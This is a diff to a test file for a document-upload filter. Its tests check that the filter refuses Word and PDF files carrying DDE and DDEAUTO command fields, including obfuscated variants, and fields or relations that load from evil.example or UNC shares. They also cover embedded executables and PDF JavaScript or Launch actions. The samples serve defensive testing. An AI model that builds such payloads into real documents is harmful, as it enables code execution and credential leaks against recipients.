@@ -2,7 +2,7 @@ import { strToU8 } from "fflate";
 import { afterAll, describe, expect, test } from "vitest";
 import { testApp } from "#app/testing.ts";
 import { atTheWire, none } from "./testing/at-the-wire.ts";
-import { aCompoundFile, aDocx, aDocxWithRelation, aPdf, aPdfOf, objectStream } from "./testing/documents.ts";
+import { aCompoundFile, aDocx, aDocxWithRelation, aPackage } from "./testing/documents.ts";
 
 const house = await testApp();
 await house.work();
@@ -89,12 +89,19 @@ describe("nobody learns who opens a document, or has it load code from elsewhere
     ["frame", remote],
     ["subDocument", remote],
     ["aFChunk", remote],
+    ["image", "\\\\evil.example\\share\\a.png"],
+    ["image", "file://evil.example/share/a.png"],
+    ["hyperlink", "\\\\evil.example\\share"],
+    ["hyperlink", "file:////evil.example/share"],
+    ["mailMergeSource", "file://evil.example/a.mdb"],
   ])("by a %s from %s", async (type, target) => {
     expect(await send("offer.docx", aDocxWithRelation(type, target))).toEqual(refused);
   });
 
   test.each([
     ["hyperlink", "https://example.com/"],
+    ["hyperlink", "mailto:ana@example.com"],
+    ["hyperlink", "file:///C:\\Users\\ana\\offer.xlsx"],
     ["image", "https://example.com/logo.png"],
     ["attachedTemplate", "file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotx"],
     ["attachedTemplate", "file:///Users/ana/Library/Letter.dotx"],
@@ -104,49 +111,85 @@ describe("nobody learns who opens a document, or has it load code from elsewhere
   });
 });
 
-const catalog = "<< /Type /Catalog /Pages 2 0 R >>";
-const script = "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>";
-describe("nobody runs a script or a program when a PDF is opened", () => {
-  test.each<[string, Buffer]>([
-    ["by an action at opening", aPdfOf("<< /Type /Catalog /OpenAction 2 0 R >>", script)],
-    ["by an action in the catalog", aPdfOf("<< /Type /Catalog /OpenAction << /S /JavaScript /JS 2 0 R >> >>")],
-    ["by a name written otherwise", aPdfOf(catalog, "<< /S /J#61vaScript /J#53 (1) >>")],
-    ["by a list of scripts", aPdfOf("<< /Type /Catalog /Names << /JavaScript 2 0 R >> >>", "<< >>")],
-    ["by a program", aPdfOf(catalog, "<< /S /Launch /F (cmd.exe) >>")],
-    ["in a packed stream of objects", aPdfOf(catalog, objectStream(["<< /Type /Page >>", script]))],
-    ["behind a string that never ends", aPdfOf(catalog, objectStream(["(", script, ")"]))],
-    [
-      "in a stream of objects packed twice",
-      aPdfOf(catalog, objectStream([script], "/Filter [/ASCIIHexDecode /FlateDecode]")),
-    ],
-    [
-      "in the data of another object",
-      aPdfOf(catalog, `<< /Length 90 /Filter /DCTDecode >>\nstream\n7 0 obj ${script} endobj\nendstream`),
-    ],
-    ["behind a comment", aPdfOf(catalog, `% (stream\n${script}`)],
-    ["behind a number and a comment", Buffer.from(`%PDF-1.7\n7 0 % x\nobj${script}\nendobj\n`)],
-  ])("%s", async (_, bytes) => {
-    expect(await send("offer.pdf", bytes)).toEqual(refused);
+const inDocument = (inside: string) => ({
+  "word/document.xml": strToU8(
+    `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${inside}</w:p></w:body></w:document>`,
+  ),
+});
+const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
+const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
+const field = (...codes: string[]) =>
+  `${mark("begin")}${codes.join("")}${mark("separate")}<w:r><w:t>1</w:t></w:r>${mark("end")}`;
+
+describe("nobody runs a program or learns who reads by a field of a document", () => {
+  const shell = 'c:\\windows\\system32\\cmd.exe "/k calc"';
+  const share = '"\\\\\\\\evil.example\\\\a"';
+  test.each<[string, string]>([
+    ["DDEAUTO", field(code(` DDEAUTO ${shell}`))],
+    ["DDE in small letters", field(code(`dde ${shell}`))],
+    ["one split into runs", field(code(" D"), code("DEAU"), code(`TO ${shell}`))],
+    ["one written with entities", field(code(`&#68;DE ${shell}`))],
+    ["one in CDATA", field(code(`<![CDATA[DDE ${shell}]]>`))],
+    ["one that is simple", `<w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>`],
+    ["one inside another", field(code(" IF 1 = 1 "), field(code(`DDE ${shell}`)))],
+    ["one that never ends", mark("begin") + code(`DDE ${shell}`)],
+    ["one put together from numbers", field(field(code("QUOTE 68 68 69")), code(shell))],
+    ["INCLUDETEXT of the web", field(code('INCLUDETEXT "https://evil.example/a.docx"'))],
+    ["INCLUDETEXT of another machine", field(code(`INCLUDETEXT ${share}`))],
+    ["INCLUDEPICTURE of another machine", field(code(`INCLUDEPICTURE ${share} \\* MERGEFORMAT`))],
+    ["INCLUDEPICTURE that is loaded at opening", field(code('INCLUDEPICTURE "https://evil.example/a.png" \\d'))],
+    ["INCLUDEPICTURE put together from numbers", field(code("INCLUDEPICTURE "), field(code("QUOTE 92 92 101")))],
+    ["LINK to another machine", field(code(`LINK Excel.Sheet.12 ${share}`))],
+    ["HYPERLINK to another machine", field(code(`HYPERLINK ${share}`))],
+  ])("%s", async (_, inside) => {
+    expect(await send("offer.docx", aDocx(inDocument(inside)))).toEqual(refused);
   });
 
+  test("in any part, in any encoding", async () => {
+    const footer = `<?xml version="1.0" encoding="utf-16"?><w:ftr xmlns:w="w">${field(code(`DDE ${shell}`))}</w:ftr>`;
+    expect(await send("offer.docx", aDocx({ "word/footer1.xml": utf16(footer) }))).toEqual(refused);
+    const other = Buffer.from(footer, "utf16le").swap16();
+    expect(await send("offer.docx", aDocx({ "word/a.bin": other }))).toEqual(refused);
+  });
+
+  test("a document with ordinary fields stays", async () => {
+    const fields = [
+      "PAGE \\* MERGEFORMAT",
+      'TOC \\o "1-3" \\h \\z \\u',
+      'HYPERLINK "https://example.com" \\t "_blank"',
+      'HYPERLINK \\l "_Toc1"',
+      'MERGEFIELD "Name"',
+      'INCLUDEPICTURE "https://example.com/logo.png" \\* MERGEFORMATINET',
+      'INCLUDEPICTURE "C:\\\\Users\\\\ana\\\\logo.png" \\d',
+      'LINK Excel.Sheet.12 "C:\\\\Users\\\\ana\\\\offer.xlsx" "A1"',
+    ].map((text) => field(code(text)));
+    const text = "<w:r><w:t>We use DDE and DDEAUTO.</w:t></w:r>";
+    expect(await send("offer.docx", aDocx(inDocument(text + fields.join(""))))).toEqual(taken);
+    const nested = field(code(" IF "), field(code(' MERGEFIELD "a" ')), code(' = "1" "{yes}" "no" '));
+    expect(await send("offer.docx", aDocx(inDocument(nested)))).toEqual(taken);
+  });
+});
+
+describe("nobody starts a program that was dropped into a document", () => {
+  const program = Buffer.alloc(6000);
+  program.write("MZ", 0, "latin1");
+  program.writeUInt32LE(128, 60);
+  program.write("PE\0\0", 128, "latin1");
+  const text = Buffer.from("hello");
+  const embedded = (content: Buffer) => aDocx({ "word/embeddings/oleObject1.bin": content });
   test.each<[string, Buffer]>([
-    ["words about it", aPdfOf("<< /Type /Catalog /Title (HTML/CSS/JavaScript /JS \\(1\\) ) /Author <2f4a53> >>")],
-    ["a page that shows it", aPdfOf(catalog, "<< /Length 20 >>\nstream\nBT (/JavaScript /JS) Tj ET\nendstream")],
-    [
-      "pages in a packed stream",
-      aPdfOf(catalog, objectStream(["<< /Type /Page >>", "(/JS)", "12", "<< /A [ 1 2 ] >>"])),
-    ],
-    ["links to pages of the web", aPdfOf(catalog, "<< /S /URI /URI (https://example.com) >>")],
-    [
-      "an encrypted stream of objects",
-      aPdfOf(
-        "<< /Encrypt 3 0 R >>",
-        "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n\xff\x00\x01endstream",
-      ),
-    ],
-    ["nothing but noise", aPdf(3_000_000)],
-  ])("a PDF with %s stays", async (_, bytes) => {
-    expect(await send("offer.pdf", bytes)).toEqual(taken);
+    ["under its name", embedded(aPackage("setup.exe", Buffer.alloc(6000, 1)))],
+    ["under its name, a short one", embedded(aPackage("run.vbs", text))],
+    ["under another name", embedded(aPackage("offer.txt", program))],
+    ["as it is", aDocx({ "word/embeddings/a.bin": program })],
+    ["as a part of another format", aDocx({ "word/_rels/document.xml.rels": strToU8(relation("aFChunk")) })],
+  ])("%s", async (_, bytes) => {
+    expect(await send("offer.docx", bytes)).toEqual(refused);
+  });
+
+  test("other packaged files stay", async () => {
+    expect(await send("offer.docx", embedded(aPackage("terms.pdf", Buffer.alloc(6000, 1))))).toEqual(taken);
+    expect(await send("offer.docx", embedded(aPackage("notes.txt", text)))).toEqual(taken);
   });
 });
 
